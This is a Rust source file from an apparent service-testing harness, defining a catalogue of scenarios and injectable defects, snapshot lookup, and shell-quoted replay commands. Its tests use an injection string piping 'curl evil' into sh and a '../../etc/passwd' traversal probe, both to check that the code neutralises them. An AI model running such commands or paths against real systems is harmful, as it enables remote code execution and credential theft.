//! A catalogue: the scenarios and the defects that a command line or a test target works on.

use std::{
    env, io,
    path::{Path, PathBuf},
};

use squall_reports::{Record, html::Golden, name, plain, record::Backend, regular};

use crate::{regression::Regressions, run::Run, scenario::Scenario};

/// A mistake in a service that can be switched on by name. A harness that cannot catch it is
/// worth nothing.
#[derive(Clone, Debug)]
pub struct Defect {
    /// Its name, as in the configuration of the service.
    pub name: String,
    /// What is wrong, in a sentence.
    pub description: String,
    /// The service that has it.
    pub service: String,
    /// The scenario that is known to catch it.
    pub caught_by: String,
    /// The objective or invariant that fails there, or a part of its name: a scenario that fails
    /// for another reason has not caught it.
    pub because: String,
}

/// Scenarios, defects, and where their fixtures are.
#[derive(Clone, Debug)]
pub struct Catalogue {
    scenarios: Vec<Listed>,
    defects: Vec<Defect>,
    seed: u64,
    fixtures: PathBuf,
    sources: Option<Sources>,
}

/// What `squall new` needs to write a scenario into the crate of a catalogue.
#[derive(Clone, Debug)]
pub struct Sources {
    /// The folder of the scenarios' sources. Its `mod.rs` has the two lines above which a scenario
    /// is entered.
    pub folder: PathBuf,
    /// The package of the catalogue's test target, `env!("CARGO_PKG_NAME")`.
    pub package: String,
    /// A new scenario as source text. Each `{name}` in it becomes the scenario's name, each
    /// `{title}` the same with spaces.
    pub template: String,
}

/// A scenario and the file that it is written in.
#[derive(Clone, Debug)]
pub struct Listed {
    /// The scenario.
    pub scenario: Scenario,
    /// Its source file, relative to the root of the repository.
    pub source: String,
}

impl Catalogue {
    /// An empty catalogue, whose goldens were made with `seed` and are kept in the folder
    /// `fixtures`, along with the seeds that once failed.
    #[must_use]
    pub fn new(seed: u64, fixtures: impl Into<PathBuf>) -> Self {
        Self {
            scenarios: Vec::new(),
            defects: Vec::new(),
            seed,
            fixtures: fixtures.into(),
            sources: None,
        }
    }

    /// Adds a scenario, and the file that it is written in.
    ///
    /// # Panics
    ///
    /// When a scenario of that name is there already.
    #[must_use]
    #[track_caller]
    pub fn scenario(mut self, scenario: Scenario, source: impl Into<String>) -> Self {
        assert!(
            self.find(scenario.name()).is_none(),
            "expected each scenario once, found {} twice",
            scenario.name()
        );
        self.scenarios.push(Listed { scenario, source: source.into() });
        self
    }

    /// Adds a defect.
    #[must_use]
    pub fn defect(mut self, defect: Defect) -> Self {
        self.defects.push(defect);
        self
    }

    /// Says how `squall new` writes scenarios.
    #[must_use]
    pub fn sources(mut self, sources: Sources) -> Self {
        self.sources = Some(sources);
        self
    }

    /// The scenarios, in order.
    #[must_use]
    pub fn scenarios(&self) -> &[Listed] {
        &self.scenarios
    }

    /// The defects, in order.
    #[must_use]
    pub fn defects(&self) -> &[Defect] {
        &self.defects
    }

    /// The seed that the goldens were made with.
    #[must_use]
    pub fn seed(&self) -> u64 {
        self.seed
    }

    /// The scenario with this name.
    #[must_use]
    pub fn find(&self, name: &str) -> Option<&Listed> {
        self.scenarios.iter().find(|listed| listed.scenario.name() == name)
    }

    /// The defect with this name.
    #[must_use]
    pub fn find_defect(&self, name: &str) -> Option<&Defect> {
        self.defects.iter().find(|defect| defect.name == name)
    }

    pub(crate) fn goldens(&self) -> PathBuf {
        self.fixtures.join("goldens")
    }

    /// The summary that was accepted for a scenario, which may be one that a record names.
    pub(crate) fn golden(&self, scenario: &str) -> Golden {
        if let Err(error) = name::check(scenario) {
            return Golden::Unreadable(error.to_string());
        }
        let path = self.goldens().join(format!("{scenario}.snap"));
        let kept = match regular::read_text(&path) {
            Ok(kept) => kept,
            Err(error) if error.kind() == io::ErrorKind::NotFound => return Golden::Missing,
            Err(error) => return Golden::Unreadable(format!("{}: {error}", path.display())),
        };
        // The file begins with what insta notes about it, between two lines of dashes.
        match kept.strip_prefix("---\n").and_then(|kept| kept.split_once("\n---\n")) {
            Some((_, summary)) => Golden::Summary(summary.to_owned()),
            None => {
                let wanted = "expected a summary after two lines of ---, as insta keeps it";
                Golden::Unreadable(format!("{}: {wanted}", path.display()))
            }
        }
    }

    pub(crate) fn regressions(&self) -> Regressions {
        Regressions::new(self.fixtures.join("regressions"))
    }

    pub(crate) fn written_to(&self) -> Option<&Sources> {
        self.sources.as_ref()
    }
}

/// The folder of the package of a catalogue, of which its fixtures and sources are part.
///
/// `name` is `env!("CARGO_PKG_NAME")` and `compiled_in` is `env!("CARGO_MANIFEST_DIR")`. Cargo does
/// not compile a package again whose folder was copied or moved, so `compiled_in` may be that of the
/// original. It is used when this process was not started by cargo, or for another package.
#[must_use]
pub fn package_folder(name: &str, compiled_in: &str) -> PathBuf {
    let started_for = env::var_os("CARGO_PKG_NAME").is_some_and(|package| package == name);
    let now_in = env::var_os("CARGO_MANIFEST_DIR").filter(|_| started_for);
    now_in.map_or_else(|| Path::new(compiled_in).to_owned(), PathBuf::from)
}

impl Defect {
    /// Does `run`, of the scenario that is known to catch this defect, fail for the right reason?
    pub(crate) fn is_caught_in(&self, run: &Run) -> bool {
        !self.because.is_empty()
            && run.failed().iter().any(|finding| finding.name.contains(&self.because))
    }

    /// `scenario` with this defect switched on in every host and deployment that runs its service.
    #[must_use]
    pub fn plant(&self, scenario: &Scenario) -> Scenario {
        let plan = scenario.plan();
        let hosts = plan.topology.hosts.iter();
        let hosts = hosts.map(|host| (host.service.as_deref(), host.name.as_str()));
        let deployments = plan.cluster.iter().flat_map(|cluster| &cluster.deployments);
        let deployments = deployments.map(|deployment| {
            (Some(deployment.template.service.as_str()), deployment.name.as_str())
        });
        let hosts: Vec<&str> = hosts
            .chain(deployments)
            .filter(|(service, _)| *service == Some(&self.service))
            .map(|(_, name)| name)
            .collect();
        scenario.clone().with_defect(&self.name, &hosts)
    }
}

/// The command that runs a scenario again in the simulation, with the same seed.
#[must_use]
pub fn replay_command(scenario: &Scenario, seed: u64) -> String {
    replay_of(scenario.name(), seed, scenario.defects(), Backend::Simulation)
}

/// The command that runs what a record is of again, on the same backend.
pub(crate) fn replay_of_record(record: &Record) -> String {
    let header = &record.header;
    replay_of(&header.scenario, header.seed, &header.defects, header.backend)
}

fn replay_of(scenario: &str, seed: u64, defects: &[String], backend: Backend) -> String {
    let defects: String =
        defects.iter().map(|defect| format!(" --defect {}", quoted(defect))).collect();
    let backend = match backend {
        Backend::Simulation => String::new(),
        other => format!(" --backend {other}"),
    };
    format!("cargo squall run {} --seed {seed}{defects}{backend}", quoted(scenario))
}

/// A word of a shell. Names come from records as well, and a record may come from anywhere: what
/// somebody pastes must not be a command of its writer.
pub(crate) fn quoted(word: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '/');
    if !word.is_empty() && word.chars().all(is_plain) {
        return word.to_owned();
    }
    let shown = plain::line(word).replace('\'', "'\\''");
    format!("'{shown}'")
}

#[cfg(test)]
mod tests {
    use std::{env, fs, path::Path};

    use squall_reports::{html::Golden, record::EndCause};

    use super::{Backend, Catalogue, Defect, package_folder, replay_of};
    use crate::run::perform::tests::failed_run;

    #[test]
    fn a_replay_command_is_one_command() {
        assert_eq!(
            replay_of("reviews-hung", 3, &["no-call-timeout".to_owned()], Backend::Simulation),
            "cargo squall run reviews-hung --seed 3 --defect no-call-timeout"
        );
        assert_eq!(
            replay_of("reviews-hung", 3, &[], Backend::Processes),
            "cargo squall run reviews-hung --seed 3 --backend processes"
        );
        assert_eq!(
            replay_of("x; curl evil|sh\n#'", 3, &[String::new()], Backend::Simulation),
            r"cargo squall run 'x; curl evil|sh #'\''' --seed 3 --defect ''"
        );
    }

    /// `cargo test` starts this process for the package `squall`; `.ci/first-crate` copies one.
    #[test]
    fn a_package_is_where_cargo_says_and_another_one_where_it_was_compiled() {
        assert_eq!(package_folder("another", "/compiled/in"), Path::new("/compiled/in"));
        if env::var_os("CARGO_PKG_NAME").is_some_and(|name| name == "squall") {
            let here = env::var_os("CARGO_MANIFEST_DIR").expect("cargo sets both");
            assert_eq!(package_folder("squall", "/compiled/in"), Path::new(&here));
        }
    }

    #[test]
    fn a_golden_is_found_however_its_lines_end() {
        let fixtures = std::env::temp_dir().join(format!("squall-goldens-{}", std::process::id()));
        let goldens = fixtures.join("goldens");
        fs::create_dir_all(&goldens).expect("the folder can be written to");
        let catalogue = Catalogue::new(1, &fixtures);
        let golden = |text: &[u8]| {
            fs::write(goldens.join("slow.snap"), text).expect("the folder can be written to");
            catalogue.golden("slow")
        };
        let summary = Golden::Summary("scenario: slow\nverdict: pass\n".to_owned());
        let text = "---\nsource: x\n---\nscenario: slow\nverdict: pass\n";
        assert_eq!(golden(text.as_bytes()), summary);
        assert_eq!(golden(text.replace('\n', "\r\n").as_bytes()), summary);
        assert_eq!(golden(format!("\u{feff}{text}").as_bytes()), summary);
        for wrong in [b"\xff\xfe".as_slice(), b"scenario: slow\n"] {
            let found = golden(wrong);
            let names = |why: &String| why.contains("slow.snap: ");
            assert!(matches!(&found, Golden::Unreadable(why) if names(why)), "{found:?}");
        }
        assert_eq!(catalogue.golden("fast"), Golden::Missing);
        let outside = catalogue.golden("../../etc/passwd");
        assert!(matches!(outside, Golden::Unreadable(_)), "{outside:?}");
        fs::create_dir(goldens.join("folder.snap")).expect("the folder can be written to");
        let folder = catalogue.golden("folder");
        let names = |why: &String| why.ends_with("found a folder");
        assert!(matches!(&folder, Golden::Unreadable(why) if names(why)), "{folder:?}");
        fs::remove_dir_all(fixtures).expect("it is there");
    }

    #[test]
    fn a_defect_is_caught_for_the_right_reason_only() {
        let caught = |because: &str, cause| {
            let defect = Defect {
                name: "no-call-timeout".to_owned(),
                description: String::new(),
                service: "api".to_owned(),
                caught_by: "handmade".to_owned(),
                because: because.to_owned(),
            };
            defect.is_caught_in(&failed_run(cause))
        };
        assert!(caught("p99 latency", EndCause::Completed));
        for other in ["p50 latency", "completion", "slow pricing", "concurrency", ""] {
            assert!(!caught(other, EndCause::Completed), "{other}");
        }
        assert!(!caught("p99 latency", EndCause::Interrupted));
    }
}
